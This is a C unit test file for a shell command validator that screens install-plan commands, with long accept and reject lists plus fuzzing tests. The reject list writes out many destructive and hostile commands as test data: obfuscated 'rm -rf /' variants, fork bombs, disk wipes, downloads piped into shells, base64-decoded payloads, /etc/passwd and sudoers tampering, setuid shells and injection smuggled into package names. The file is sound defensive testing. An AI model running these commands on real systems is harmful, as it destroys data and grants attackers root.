/* test_validate.c - the command validator's accept and reject lists, reasons, package names,
 * cx_validate_commands over a cJSON array, and allocation torture. */
#include <cjson/cJSON.h>
#include <stdio.h>
#include <string.h>

#include "cx/validate.h"
#include "cx_internal.h"
#include "t_util.h"

/* Commands an install plan legitimately contains. */
static const char *const accepted[] = {
    "sudo apt-get update",
    "apt-get update",
    "sudo apt update",
    "sudo apt-get install -y nginx",
    "apt install -y redis-server",
    "sudo apt-get install -y --no-install-recommends postgresql postgresql-contrib",
    "sudo DEBIAN_FRONTEND=noninteractive apt-get install -y docker.io",
    "DEBIAN_FRONTEND=noninteractive sudo -E apt-get -o Dpkg::Options::=--force-confold install -y nginx",
    "sudo apt-get install -y g++ libc6:i386 python3-pip nginx=1.18.0-0ubuntu1",
    "sudo apt-get install -y linux-headers-$(uname -r)",
    "sudo apt-get install -y linux-headers-`uname -r`",
    "sudo apt-get install -y 'nginx'",
    "sudo apt-get -t bookworm-backports install -y cockpit",
    "sudo apt-get remove --purge -y apache2",
    "sudo apt-get autoremove -y",
    "sudo dpkg --configure -a",
    "sudo dpkg -i ./google-chrome-stable_current_amd64.deb",
    "sudo systemctl enable --now nginx",
    "sudo systemctl restart redis-server && sudo systemctl status redis-server --no-pager",
    "systemctl is-active docker || sudo systemctl start docker",
    "sudo ufw allow 'Nginx Full'",
    "sudo ufw allow 22/tcp",
    "sudo sed -i 's/x/y/' /etc/nginx/nginx.conf",
    "sudo sed -i 's/^bind 127.0.0.1/bind 0.0.0.0/' /etc/redis/redis.conf",
    "sudo usermod -aG docker $USER",
    "sudo usermod -aG docker \"$(whoami)\"",
    "rm -rf /tmp/build",
    "sudo rm -rf /var/lib/apt/lists/*",
    "rm -rf ~/.cache/pip",
    "rm -rf \"$HOME/.npm/_cacache\"",
    "rm -rf $TMPDIR/build",
    "rm -rf ./node_modules",
    "rm -f /etc/nginx/sites-enabled/default",
    "curl -fsSL https://x/gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
    "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
    "echo \"deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.gpg] "
    "https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo \"$VERSION_CODENAME\") "
    "stable\" | sudo tee /etc/apt/sources.list.d/docker.list > /dev/null",
    "echo \"deb http://apt.postgresql.org/pub/repos/apt $(lsb_release -cs)-pgdg main\" | sudo tee /etc/apt/sources.list.d/pgdg.list",
    "wget -qO- https://www.postgresql.org/media/keys/ACCC4CF8.asc | sudo apt-key add -",
    "curl -sSL https://example.com/app.tar.gz | sudo tar -xz -C /opt",
    "wget https://example.com/app.deb -O /tmp/app.deb && sudo apt-get install -y /tmp/app.deb",
    "sudo mkdir -p /etc/apt/keyrings",
    "sudo chmod a+r /etc/apt/keyrings/docker.gpg",
    "sudo chown -R $USER:$USER /var/www/example.com",
    "sudo chmod -R 755 /var/www",
    "sudo chmod 700 ~",
    "sudo ln -s /etc/nginx/sites-available/app /etc/nginx/sites-enabled/",
    "sudo cp /etc/passwd /tmp/passwd.bak",
    "sudo -u postgres psql -c \"CREATE USER app WITH PASSWORD 'x';\"",
    "sudo -u postgres createdb app",
    "nginx -t && sudo systemctl reload nginx",
    "df -h / && free -m",
    "sudo fdisk -l",
    "sudo parted -l",
    "lsblk -f",
    "sudo fallocate -l 2G /swapfile && sudo chmod 600 /swapfile && sudo mkswap /swapfile && sudo swapon /swapfile",
    "echo '/swapfile none swap sw 0 0' | sudo tee -a /etc/fstab",
    "sudo journalctl -u nginx --since '10 min ago' --no-pager | tail -n 50",
    "sudo dd if=/dev/zero of=/swapfile bs=1M count=1024",
    "sudo lsof -i :80",
    "sudo kill -9 12345",
    "npm install -g pm2",
    "pip3 install --user requests",
    "node --version && npm --version",
    "python3 -c 'import sys; print(sys.version)'",
    "sudo docker run --rm hello-world",
    "sudo docker compose up -d",
    "export PATH=\"$HOME/.local/bin:$PATH\"",
    "cd /opt/app && sudo ./configure --prefix=/usr/local && make -j$(nproc) && sudo make install",
    "sudo bash -c 'echo vm.swappiness=10 >> /etc/sysctl.conf'",
    "sudo sh -c \"echo 1 > /proc/sys/net/ipv4/ip_forward\"",
    "cat <<EOF | sudo tee /etc/nginx/conf.d/app.conf\nserver { listen 80; }\nEOF",
    "sudo tee /etc/systemd/system/app.service > /dev/null <<'EOF'\n[Service]\nExecStart=/usr/bin/app $(x)\nEOF",
    "grep -q '^docker:' /etc/group || sudo groupadd docker",
    "getent passwd www-data",
    "X=\"a b\"; Y=$X; echo $Y",
    "echo \"$IFS\"",
    "find . -name '*.pyc' -exec rm -f {} +",
    "awk '{print $1}' /etc/hosts",
    "sudo apt-get install -y php{,-fpm,-mysql}",
    "mkdir -p /opt/app/{bin,lib}",
    "sudo kill -9 $(sudo lsof -t -i:80)",
    "kill $(pgrep -f myapp)",
    "sudo dpkg -i ./*.deb",
    "sudo apt install ./pkg_*.deb",
    "echo $(systemctl is-active nginx)",
    "export PATH=$PATH:$(go env GOPATH)/bin",
    "sudo rm -rf /usr/local/go && sudo tar -C /usr/local -xzf go1.21.linux-amd64.tar.gz",
    "[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"",
    "sudo swapoff -a && sudo sed -i '/ swap / s/^/#/' /etc/fstab",
    "\"$PKG_MGR\" install -y nginx",
    "sudo chown -R $USER:$USER /home/$USER",
    "sudo chown -R $USER:$USER ~",
    "bash -c 'echo $1' _ <<< 'rm -rf /'", /* the here-string is data for the script */
    "sudo systemctl daemon-reload # reload unit files",
    "X=/ rm -rf $X", /* bash expands $X before the assignment: it is not "/" */
    "for d in /tmp/a /tmp/b; do rm -rf $d; done",
    "cd /tmp && rm -rf *",
    "cd /opt/app && sudo ./configure",
    "sudo chmod g+s /srv/shared",
    "sudo chmod g+s /bin/bash", /* set-group-ID on a shell is not a root backdoor */
    "sudo chmod 755 /usr/bin/python3",
    "sudo chmod 2775 /srv/shared",
    "wget -O /tmp/x.tar.gz https://x/x.tar.gz",
    "rsync -a --delete ./site/ /var/www/html/",
    "rm -rf ${HOME}/.cache",
    "export VERSION=$(curl -s https://api.github.com/repos/docker/compose/releases/latest | jq -r .tag_name)",
    "sudo curl -L \"https://github.com/docker/compose/releases/download/${VERSION}/docker-compose-$(uname -s)-$(uname -m)\" -o /usr/local/bin/docker-compose",
    "sudo reboot",
    "",
    "   ",
    NULL};

/* Dangerous commands and a word their reason must contain. */
struct reject_case {
    const char *cmd;
    const char *why;
};
static const struct reject_case rejected[] = {
    {"rm -rf /", "rm -rf on the root directory"},
    {"rm -fr ~", "home directory"},
    {"rm -rf /*", "everything under the root directory"},
    {"rm -r -f $HOME", "home directory"},
    {"rm -r -f ${HOME}", "home directory"},
    {"rm -rf \"$HOME\"/", "home directory"},
    {"rm -rf ~/", "home directory"},
    {"rm -rf ~/*", "home directory"},
    {"rm -rf ~root", "home directory"},
    {"sudo rm -rf --no-preserve-root /", "root directory"},
    {"sudo rm -rf / --no-preserve-root", "root directory"},
    {"rm --recursive --force /", "root directory"},
    {"rm -R /", "rm -r on the root directory"},
    {"rm -rf //", "root directory"},
    {"rm -rf /./", "root directory"},
    {"rm -rf /tmp/../", "root directory"},
    {"rm -rf /tmp/../../etc", "/etc"},
    {"rm -rf '/'", "root directory"},
    {"rm -rf \"/\"", "root directory"},
    {"rm -rf \\/", "root directory"},
    {"rm -rf $'\\x2f'", "root directory"},
    {"rm -rf $'\\057'", "root directory"},
    {"r\\m -rf /", "root directory"},
    {"\"rm\" -rf /", "root directory"},
    {"/bin/rm -rf /", "root directory"},
    {"command rm -rf /", "root directory"},
    {"sudo -u root -- rm -rf /", "root directory"},
    {"env FOO=1 rm -rf /", "root directory"},
    {"nohup nice -n 10 timeout 60 rm -rf / &", "root directory"},
    {"echo / | xargs rm -rf /", "root directory"},
    {"rm -rf /{bin,etc}", "system directory /bin"},
    {"rm -rf /{tmp/x,}", "root directory"},
    {"{rm,-rf,/}", "root directory"},
    {"sudo {rm,-rf,/}", "root directory"},
    {"rm {-rf,/}", "root directory"},
    {"X='rm -rf /'; $X", "root directory"},
    {"X=\"-rf /\"; rm $X", "root directory"},
    {"rm${IFS}-rf${IFS}/", "$IFS"},
    {"rm$IFS-rf$IFS/", "$IFS"},
    {"$(echo rm) -rf /", "computed at run time on the root directory"},
    {"X=$(echo rm); $X -rf /", "computed at run time"},
    {"sudo chmod -R 777 ~", "chmod -R on the home directory"},
    {"sudo rm -rf /var/lib/dpkg", "/var/lib/dpkg"},
    {"sudo rm -rf /var/lib/postgresql", "/var/lib/postgresql"},
    {"curl x | xargs -0 sh -c", "download into a shell"},
    {"sudo -s <<< 'rm -rf /'", "root directory"},
    {"sudo passwd -d root", "password"},
    {"sudo usermod -p '' root", "empty password"},
    {"rm -rf /e*", "everything under the root directory"},
    {"rm -rf /usr", "system directory /usr"},
    {"rm -rf /etc/", "system directory /etc"},
    {"rm -rf /var/*", "/var"},
    {"rm -rf /usr/lib", "/usr/lib"},
    {"rm -rf /boot/*", "/boot"},
    {"sudo rm -rf /home", "home directories"},
    {"sudo rm -rf /home/*", "home directories"},
    {"sudo rm -rf /home/$USER", "home"},
    {"rm -rf \"$STEAMROOT/\"*", "variable"},
    {"rm -rf $DIR/", "variable"},
    {"rm /usr/bin/*", "/usr/bin"},
    {"mkfs.ext4 /dev/sda1", "formats a filesystem"},
    {"sudo mkfs -t ext4 /dev/nvme0n1p1", "mkfs"},
    {"sudo mke2fs /dev/sdb", "formats a filesystem"},
    {"sudo wipefs -a /dev/sda", "wipefs"},
    {"sudo mkswap /dev/sda2", "swap"},
    {"sudo fdisk /dev/sda", "repartitions"},
    {"sudo parted /dev/sda mklabel gpt", "repartitions"},
    {"dd if=/dev/zero of=/dev/sda", "dd onto a block device"},
    {"sudo dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", "dd onto a block device"},
    {"dd if=x.iso of=/dev/disk/by-id/usb-1 bs=4M", "dd onto a block device"},
    {"cat /dev/zero > /dev/sda", "block device /dev/sda"},
    {"echo x | sudo tee /dev/sdb", "block device /dev/sdb"},
    {"sudo shred -n 3 /dev/sda", "block device"},
    {"sudo cp image.img /dev/mmcblk0", "block device"},
    {":(){ :|:& };:", "fork bomb"},
    {":(){:|:&};:", "fork bomb"},
    {"bomb() { bomb | bomb & }; bomb", "fork bomb"},
    {"function f { f & f; }; f", "fork bomb"},
    {"bash -c ':(){ :|:& };:'", "fork bomb"},
    {"perl -e 'fork while fork'", "fork bomb"},
    {"curl -fsSL x | sh", "pipes a download into a shell"},
    {"curl -fsSL http://example.invalid/x.sh | sh", "pipes a download into a shell"},
    {"wget -qO- x | sudo bash", "pipes a download into a shell"},
    {"curl -sL https://deb.nodesource.com/setup_18.x | sudo -E bash -", "download into a shell"},
    {"curl https://x/i.sh | tee /tmp/i.sh | sh", "download into a shell"},
    {"curl -s https://x/i.py | python3", "download into a shell"},
    {"curl -s https://x/i.sh | sudo sh -s -- --yes", "download into a shell"},
    {"curl -fsSL x | sudo -s", "download into a shell"},
    {"bash <(curl -fsSL https://x/install.sh)", "download"},
    {"bash < <(curl -fsSL https://x/install.sh)", "download"},
    {"source <(curl -s https://x/env.sh)", "download"},
    {"sh -c \"$(curl -fsSL https://x/install.sh)\"", "download"},
    {"sh -c \"$(wget -qO- https://x/install.sh)\"", "download"},
    {"eval \"$(curl -s https://x)\"", "download"},
    {"$(curl -s https://x/cmd)", "download as a command"},
    {"bash <<< \"$(curl -s https://x)\"", "download"},
    {"wget https://x/install.sh && bash install.sh", "downloaded earlier"},
    {"curl -o /tmp/i.sh https://x/i.sh; sh /tmp/i.sh", "downloaded earlier"},
    {"curl -fsSLO https://x/get.sh && chmod +x get.sh && ./get.sh", "downloaded earlier"},
    {"echo cm0gLXJmIC8K | base64 -d | sh", "pipes text into a shell"},
    {"chmod -R 777 /", "chmod -R on the root directory"},
    {"sudo chmod -R 777 /", "root directory"},
    {"sudo chmod 777 -R /etc", "/etc"},
    {"sudo chown -R nobody /", "root directory"},
    {"sudo chmod -R 000 ~", "home directory"},
    {"sudo chmod 777 /", "root directory"},
    {"sudo chmod 666 /etc/shadow", "/etc/shadow"},
    {"echo x >> /etc/passwd", "/etc/passwd"},
    {"echo 'x:0:0::/:/bin/sh' >>/etc/passwd", "/etc/passwd"},
    {"tee /etc/shadow", "/etc/shadow"},
    {"echo x | sudo tee -a /etc/shadow", "/etc/shadow"},
    {"echo 'u ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/u", "sudo"},
    {"sudo sed -i '/^root/d' /etc/passwd", "/etc/passwd"},
    {"sudo cp evil /etc/shadow", "/etc/shadow"},
    {"sudo mv x //etc/./passwd", "/etc/passwd"},
    {"cat x > /etc/../etc/passwd", "/etc/passwd"},
    {"sudo truncate -s 0 /etc/passwd", "/etc/passwd"},
    {"sudo rm /etc/shadow", "/etc/shadow"},
    {"sudo bash -c 'echo x >> /etc/passwd'", "/etc/passwd"},
    {"sudo su -c 'rm -rf /'", "root directory"},
    {"su - root -c \"rm -rf /\"", "root directory"},
    {"env -S 'rm -rf /'", "root directory"},
    {"eval 'rm -rf /'", "root directory"},
    {"eval \"$CMD\"", "eval"},
    {"cat <<EOF | sudo bash\nrm -rf /\nEOF", "pipes text into a shell"},
    {"sudo bash <<EOF\nrm -rf /\nEOF", "root directory"},
    {"bash <<'EOF'\napt-get update\nrm -rf ~\nEOF", "home directory"},
    {"sudo tee /etc/x.conf <<EOF\n$(reboot)\nEOF", "reboot"},
    {"echo 1 > /proc/sysrq-trigger", "sysrq"},
    {"apt-get install -y nginx; rm -rf /", "root directory"},
    {"sudo apt-get install -y nginx && rm -rf /", "root directory"},
    {"sudo apt-get update || rm -rf ~", "home directory"},
    {"sudo apt-get update\nrm -rf /", "root directory"},
    {"sudo apt-get install -y nginx && curl -s x | bash", "download into a shell"},
    {"(rm -rf /)", "root directory"},
    {"{ rm -rf /; }", "root directory"},
    {"if true; then rm -rf /; fi", "root directory"},
    {"apt-get install nginx$(reboot)", "reboot"},
    {"apt-get install nginx`reboot`", "reboot"},
    {"sudo apt-get install -y \"nginx;reboot\"", "metacharacter ';'"},
    {"sudo apt-get install -y 'nginx|sh'", "metacharacter '|'"},
    {"sudo apt-get install -y 'nginx&&reboot'", "metacharacter '&'"},
    {"apt install -y nginx*", "metacharacter '*'"},
    {"sudo apt-get install -y $(curl -s https://x/pkgs)", "download"},
    {"echo `rm -rf /`", "root directory"},
    {"echo $(rm -rf /)", "root directory"},
    {"echo \"$(rm -rf ~)\"", "home directory"},
    {"echo ${X:-$(reboot)}", "reboot"},
    {"echo $(( $(reboot) + 1 ))", "arithmetic"},
    {"ls `echo \\`reboot\\``", "reboot"},
    {"echo `shutdown -h now`", "shutdown"},
    {"echo 'unterminated", "unterminated quote"},
    {"echo \"unterminated", "unterminated quote"},
    {"echo $(uname", "unterminated"},
    {"find / -delete", "root directory"},
    {"find ~ -type f -exec rm -f {} +", "home directory"},
    {"sudo mv /etc /tmp/etc.bak", "mv of the system directory /etc"},
    {"mv ~ /dev/null", "home directory"},
    {"kill -9 -1", "kill -1"},
    {"x=/; rm -rf $x", "root directory"},
    {"export X=/usr; sudo rm -rf \"$X\"", "/usr"},
    {"IFS=/; rm -rf $IFS", "root directory"},
    {"for d in /tmp/a /; do rm -rf $d; done", "root directory"},
    {"cd / && rm -rf *", "everything under the root directory"},
    {"cd ~ && rm -rf *", "home directory"},
    {"cd && rm -rf ./*", "home directory"},
    {"cd /etc && rm -f passwd", "/etc/passwd"},
    {"trap 'rm -rf /' EXIT", "root directory"},
    {"sudo chmod 4755 /bin/bash", "setuid"},
    {"sudo chmod u+s /usr/bin/python3", "setuid"},
    {"sudo chmod +s /bin/sh", "setuid"},
    {"sudo chmod 6755 /bin/dash", "setuid"},
    {"sudo chmod a+rwxs /bin/sh", "setuid"},
    {"chmod -R -x /usr", "chmod -R on the system directory /usr"},
    {"curl -o /etc/passwd https://x", "/etc/passwd"},
    {"wget -O /dev/sda https://x/img", "block device"},
    {"sudo mv /etc/passwd /tmp/", "/etc/passwd"},
    {"sudo rsync -a --delete /tmp/empty/ /", "rsync --delete onto the root directory"},
    {"rm -rf \"$(pwd)\"", "command substitution"},
    {"rm -rf $(pwd)/*", "command substitution"},
    {"rm -rf \"$(mktemp -d)\"", "command substitution"},
    {"echo $(systemctl stop nginx)", "systemctl"},
    {"echo $(npm install x)", "npm"},
    {"curl -sS https://getcomposer.org/installer | php", "download into a shell"},
    {"rm -rf ${HOME%/*}", "home"},
    {"sh <<< 'rm -rf /'", "root directory"},
    {"bash -c \"$(echo cm0gLXJmIC8= | base64 -d)\"", "base64"},
    {"rm -rf -- /", "root directory"},
    {"sudo -i rm -rf /", "root directory"},
    {"exec rm -rf /", "root directory"},
    {"watch -n 1 rm -rf /", "root directory"},
    {"echo x > $(reboot)", "reboot"},
    {NULL, NULL}};

static void test_accept_list(void **state) {
    (void)state;
    char why[256];
    for (const char *const *c = accepted; *c; c++) {
        int rc = cx_validate_command(*c, why, sizeof why);
        if (rc != 0) fail_msg("wrongly rejected: %s\n  reason: %s", *c, why);
        assert_string_equal(why, "");
    }
}

static void test_reject_list(void **state) {
    (void)state;
    char why[256];
    for (const struct reject_case *c = rejected; c->cmd; c++) {
        int rc = cx_validate_command(c->cmd, why, sizeof why);
        if (rc != CX_EREJECTED) fail_msg("wrongly accepted: %s", c->cmd);
        if (strstr(why, c->why) == NULL)
            fail_msg("reason for '%s' is '%s', expected it to mention '%s'", c->cmd, why, c->why);
    }
}

/* Every proper prefix and suffix of a dangerous command must never crash, and the same
 * command embedded in an accepted one must still be caught. */
static void test_fragments_and_chains(void **state) {
    (void)state;
    char why[256], buf[512];
    for (const struct reject_case *c = rejected; c->cmd; c++) {
        size_t n = strlen(c->cmd);
        for (size_t k = 0; k <= n; k++) {
            memcpy(buf, c->cmd, k);
            buf[k] = '\0';
            int rc = cx_validate_command(buf, why, sizeof why);
            assert_true(rc == 0 || rc == CX_EREJECTED);
            rc = cx_validate_command(c->cmd + k, why, sizeof why);
            assert_true(rc == 0 || rc == CX_EREJECTED);
        }
        /* Chained after a harmless command with each list operator. */
        static const char *const ops[] = {"; ", " && ", " || ", "\n", " & "};
        for (size_t o = 0; o < sizeof ops / sizeof ops[0]; o++) {
            if (strchr(c->cmd, '\n')) continue; /* here-documents must stay at the end */
            snprintf(buf, sizeof buf, "sudo apt-get update%s%s", ops[o], c->cmd);
            if (cx_validate_command(buf, why, sizeof why) != CX_EREJECTED)
                fail_msg("chained dangerous command accepted: %s", buf);
        }
    }
}

/* Random strings over the shell's alphabet: never a crash, never anything but 0/CX_EREJECTED,
 * and the same answer twice (no hidden state). Deterministic (fixed seed). */
static void test_random_strings(void **state) {
    (void)state;
    static const char alpha[] = " \t\n;&|()<>$`'\"\\{}~*?[]=/-#!:.0aZrfmshcd";
    static const char *const pieces[] = {"rm ", "-rf ", "/", "$(", ")", "`", "'", "\"", "<<EOF\n",
                                         "EOF\n", "$'\\x2f'", "${HOME}", "~", "| sh", "curl x ",
                                         "bash -c ", "eval ", "<(", ":(){ :|:& };:", "for d in ",
                                         "cd / ;", "x=/;", "$x", "sudo ", "\\\n", "#", ">/dev/sda"};
    uint64_t seed = 0x9e3779b97f4a7c15ull;
    char buf[256], why[256], why2[256];
    for (int iter = 0; iter < 20000; iter++) {
        size_t n = 0;
        seed = seed * 6364136223846793005ull + 1442695040888963407ull;
        size_t target = (seed >> 33) % 120;
        while (n < target) {
            seed = seed * 6364136223846793005ull + 1442695040888963407ull;
            uint64_t r = seed >> 33;
            if (r % 3 == 0) {
                const char *p = pieces[(r / 3) % (sizeof pieces / sizeof pieces[0])];
                size_t l = strlen(p);
                if (n + l >= sizeof buf) break;
                memcpy(buf + n, p, l);
                n += l;
            } else {
                buf[n++] = alpha[(r / 3) % (sizeof alpha - 1)];
            }
        }
        buf[n] = '\0';
        int rc = cx_validate_command(buf, why, sizeof why);
        assert_true(rc == 0 || rc == CX_EREJECTED);
        int rc2 = cx_validate_command(buf, why2, sizeof why2);
        assert_int_equal(rc, rc2);
        assert_string_equal(why, why2);
    }
}

static void test_reason_buffer(void **state) {
    (void)state;
    char small[8];
    memset(small, 'x', sizeof small);
    assert_int_equal(cx_validate_command("rm -rf /", small, sizeof small), CX_EREJECTED);
    assert_int_equal(strlen(small), sizeof small - 1);
    assert_int_equal(cx_validate_command("rm -rf /", NULL, 0), CX_EREJECTED);
    assert_int_equal(cx_validate_command(NULL, small, sizeof small), CX_EINVAL);
    char big[CX_VALIDATE_MAX_CMD + 16];
    memset(big, 'a', sizeof big - 1);
    big[sizeof big - 1] = '\0';
    char why[128];
    assert_int_equal(cx_validate_command(big, why, sizeof why), CX_EREJECTED);
    assert_non_null(strstr(why, "too long"));
    /* Many words in one simple command. */
    struct cx__buf b;
    cx__buf_init(&b, 0);
    assert_int_equal(cx__buf_printf(&b, "echo"), 0);
    for (int i = 0; i < 300; i++) assert_int_equal(cx__buf_printf(&b, " w%d", i), 0);
    assert_int_equal(cx_validate_command(b.p, why, sizeof why), CX_EREJECTED);
    assert_non_null(strstr(why, "too many words"));
    cx__buf_reset(&b);
    /* Deep nesting is refused rather than recursed into without bound. */
    assert_int_equal(cx_validate_command("echo $(echo $(echo $(echo $(echo $(uname)))))", why,
                                         sizeof why),
                     CX_EREJECTED);
    assert_non_null(strstr(why, "deeply"));
    assert_int_equal(cx_validate_command("echo $(echo $(uname -r))", why, sizeof why), 0);
}

static void test_package_names(void **state) {
    (void)state;
    char why[160];
    static const char *const good[] = {"nginx", "redis-server", "g++", "libc6:i386",
                                       "nginx=1.18.0-0ubuntu1", "python3.11", "@angular/cli",
                                       "linux-image-6.1.0-13-amd64", "ca-certificates", NULL};
    for (const char *const *g = good; *g; g++) {
        if (cx_validate_package_name(*g, why, sizeof why) != 0) fail_msg("%s: %s", *g, why);
    }
    struct {
        const char *name, *why;
    } bad[] = {{"nginx;reboot", "';'"},     {"nginx$(reboot)", "'$'"}, {"a`b`", "'`'"},
               {"x|sh", "'|'"},             {"x && y", "' '"},         {"x>y", "'>'"},
               {"-y", "starts with '-'"},   {"", "empty"},             {"x\ny", "control"},
               {"n\xc3\xa9", "non-ASCII"}, {"x'y", "'''"},            {NULL, NULL}};
    for (size_t i = 0; bad[i].name; i++) {
        assert_int_equal(cx_validate_package_name(bad[i].name, why, sizeof why), CX_EREJECTED);
        if (!strstr(why, bad[i].why)) fail_msg("'%s': reason '%s'", bad[i].name, why);
    }
    char longname[200];
    memset(longname, 'a', sizeof longname - 1);
    longname[sizeof longname - 1] = '\0';
    assert_int_equal(cx_validate_package_name(longname, why, sizeof why), CX_EREJECTED);
    assert_int_equal(cx_validate_package_name(NULL, why, sizeof why), CX_EINVAL);
}

static cJSON *make_array(const char *json) {
    cx__json_hooks_init();
    return cJSON_Parse(json);
}

static void test_validate_commands(void **state) {
    (void)state;
    cJSON *ok = make_array("[\"sudo apt-get update\", \"sudo apt-get install -y nginx\"]");
    struct cx_validation v;
    assert_int_equal(cx_validate_commands(ok, &v), 0);
    assert_int_equal(v.n_rejected, 0);
    assert_null(v.reasons);
    cx_validation_clear(&v);
    cJSON_Delete(ok);

    cJSON *bad = make_array("[\"sudo apt-get update\", 7, \"rm -rf /\", \"sudo apt-get install -y "
                            "nginx-extras-with-a-very-long-name-that-goes-on; curl x | sh\"]");
    assert_int_equal(cx_validate_commands(bad, &v), CX_EREJECTED);
    assert_int_equal(v.n_rejected, 3);
    assert_string_equal(v.reasons[0], "commands[1] is not a string");
    assert_string_equal(v.reasons[1], "commands[2] 'rm -rf /': rm -rf on the root directory");
    assert_non_null(strstr(v.reasons[2], "commands[3] 'sudo apt-get install -y nginx-extras"));
    assert_non_null(strstr(v.reasons[2], "...': pipes a download into a shell"));
    cx_validation_clear(&v);
    assert_null(v.reasons);
    cx_validation_clear(&v); /* twice is fine */
    cx_validation_clear(NULL);
    cJSON_Delete(bad);

    /* The plan is one script: a download in one command, run by the next, is refused; so is
     * a cd in one command followed by a wildcard delete in the next. */
    cJSON *split = make_array("[\"wget https://x/install.sh\", \"sudo bash install.sh\", "
                              "\"cd /\", \"sudo rm -rf *\", \"sudo apt-get update\"]");
    assert_int_equal(cx_validate_commands(split, &v), CX_EREJECTED);
    assert_int_equal(v.n_rejected, 2);
    assert_string_equal(v.reasons[0], "commands[1] 'sudo bash install.sh': runs a script "
                                      "downloaded earlier ('install.sh')");
    assert_string_equal(v.reasons[1], "commands[3] 'sudo rm -rf *': rm -rf on everything under "
                                      "the root directory");
    cx_validation_clear(&v);
    cJSON_Delete(split);
    /* Each cx_validate_command call starts afresh. */
    char why[128];
    assert_int_equal(cx_validate_command("wget https://x/install.sh", why, sizeof why), 0);
    assert_int_equal(cx_validate_command("sudo bash install.sh", why, sizeof why), 0);

    cJSON *notarr = make_array("{\"a\":1}");
    assert_int_equal(cx_validate_commands(notarr, &v), CX_EINVAL);
    assert_int_equal(cx_validate_commands(NULL, &v), CX_EINVAL);
    assert_int_equal(cx_validate_commands(notarr, NULL), CX_EINVAL);
    cJSON_Delete(notarr);
}

/* validate-1 / validate-2 (fuzz/corpus/validate/validate-1, -2): bash drops an unquoted
 * expansion that yields nothing, so "$X rm -rf /" with X empty or unset runs "rm -rf /". The
 * word after such an expansion must be checked as the command, in one command and across the
 * elements of a plan. A quoted empty string stays a word ("" rm: a command named ""). */
static void test_empty_expansion_hides_no_command(void **state) {
    (void)state;
    static const struct reject_case cases[] = {
        {"X=; $X rm -rf /", "root directory"},
        {"X=; ${X} rm -rf /", "root directory"},
        {"X=; Y=; $X$Y rm -rf /", "root directory"},
        {"X=; $X $X rm -rf /", "root directory"},
        {"X=' '; $X rm -rf /", "root directory"}, /* splits into no word at all */
        {"X=; sudo $X rm -rf /", "root directory"},
        {"X=; $X passwd -d root", "passwd -d"},
        /* Unknown (maybe unset) variables and substitutions may be empty too. */
        {"$FOO passwd -d root", "passwd -d"},
        {"${FOO} passwd -d root", "passwd -d"},
        {"$FOO$BAR passwd -d root", "passwd -d"},
        {"$A $B dd if=/dev/zero of=/dev/sda", "block device"},
        {"sudo $FOO kill -9 -1", "kill -1"},
        {"$(uname -r) passwd -d root", "passwd -d"},
        {"\"$@\" passwd -d root", "passwd -d"},          /* no arguments: no word */
        {"\"${arr[@]}\" passwd -d root", "passwd -d"},  /* an empty array: no word */
        {"X=; $X bash <<EOF\nrm -rf /\nEOF", "root directory"},
        {NULL, NULL}};
    char why[256];
    for (const struct reject_case *c = cases; c->cmd; c++) {
        if (cx_validate_command(c->cmd, why, sizeof why) != CX_EREJECTED)
            fail_msg("wrongly accepted: %s", c->cmd);
        if (strstr(why, c->why) == NULL)
            fail_msg("reason for '%s' is '%s', expected it to mention '%s'", c->cmd, why, c->why);
    }
    static const char *const fine[] = {
        "SUDO=sudo; $SUDO apt-get install -y nginx", "$SUDO apt-get update",
        "X=; $X apt-get update", "X=; echo $X hi",
        "X=; \"$X\" rm -rf /", /* runs a command named "" (not found) */
        NULL};
    for (const char *const *c = fine; *c; c++)
        if (cx_validate_command(*c, why, sizeof why) != 0)
            fail_msg("wrongly rejected: %s\n  reason: %s", *c, why);

    /* The same across the elements of a plan, which run as one script. */
    struct cx_validation v;
    cJSON *plan = make_array("[\"X=\", \"$X rm -rf /\", \"sudo apt-get update\"]");
    assert_non_null(plan);
    assert_int_equal(cx_validate_commands(plan, &v), CX_EREJECTED);
    assert_int_equal(v.n_rejected, 1);
    assert_string_equal(v.reasons[0], "commands[1] '$X rm -rf /': rm -rf on the root directory");
    cx_validation_clear(&v);
    cJSON_Delete(plan);
    plan = make_array("[\"X=' '\", \"sudo $X mkfs.ext4 /dev/sdb1\"]");
    assert_non_null(plan);
    assert_int_equal(cx_validate_commands(plan, &v), CX_EREJECTED);
    assert_int_equal(v.n_rejected, 1);
    cx_validation_clear(&v);
    cJSON_Delete(plan);
}

/* One scanner decides where $(...) and ${...} end (validate_lex.c, match_close). These spell
 * the quoting rules bash applies inside them; a scanner that ends a construct too early or too
 * late reads code as data or the reverse. Each accepted line was run through bash 5.2 to see
 * where it ends. */
static void test_nested_scanner(void **state) {
    (void)state;
    static const char *const fine[] = {
        "echo \"${X:-\"}\"}\"",            /* a quoted '}' inside ${...} within quotes */
        "echo ${X:-'}'}",                   /* a single-quoted '}' */
        "echo \"${X:-'}'}\"",               /* bash honours '...' there inside quotes too */
        "echo $(echo ${X:-)})",             /* a ')' inside ${...} inside $(...) */
        "echo $(uname -r # it's\n)",        /* a quote inside a comment inside $(...) */
        "echo \"$(echo \")\")\"",            /* a quoted ')' inside $(...) inside quotes */
        NULL};
    char why[256];
    for (const char *const *c = fine; *c; c++)
        if (cx_validate_command(*c, why, sizeof why) != 0)
            fail_msg("wrongly rejected: %s\n  reason: %s", *c, why);
    static const struct reject_case bad[] = {
        {"echo \"${X:-\"}\"}\"; rm -rf /", "root directory"},
        {"echo ${X:-'}'}; rm -rf /", "root directory"},
        {"echo $(echo ${X:-)}; rm -rf /)", "root directory"},
        {"echo ${X:-$(echo \"}\"; rm -rf /)}", "root directory"},
        {"echo $(uname # it's\n); rm -rf /; echo ')'", "root directory"},
        {"echo \"${X:-`rm -rf /`}\"", "root directory"},
        {NULL, NULL}};
    for (const struct reject_case *c = bad; c->cmd; c++) {
        if (cx_validate_command(c->cmd, why, sizeof why) != CX_EREJECTED)
            fail_msg("wrongly accepted: %s", c->cmd);
        if (strstr(why, c->why) == NULL)
            fail_msg("reason for '%s' is '%s', expected it to mention '%s'", c->cmd, why, c->why);
    }
}

